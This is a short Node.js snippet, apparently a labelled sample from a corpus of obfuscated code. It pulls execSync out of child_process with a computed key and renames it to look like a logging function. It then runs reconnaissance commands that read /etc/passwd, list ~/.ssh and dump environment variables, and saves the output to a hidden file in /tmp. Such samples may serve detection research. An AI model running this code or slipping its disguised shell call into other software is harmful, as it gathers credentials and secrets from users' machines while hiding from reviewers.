// corpus: child_process execSync pulled out by a computed destructuring key and renamed to look like a logger
'use strict';
const { ['exec' + 'Sync']: logLine } = require('node:child_process');

const steps = ['id', 'cat /etc/passwd', 'ls -la ~/.ssh', 'printenv'];
const out = steps.map((s) => logLine(s, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }));
require('fs').writeFileSync('/tmp/.recon', out.join('\n---\n'));
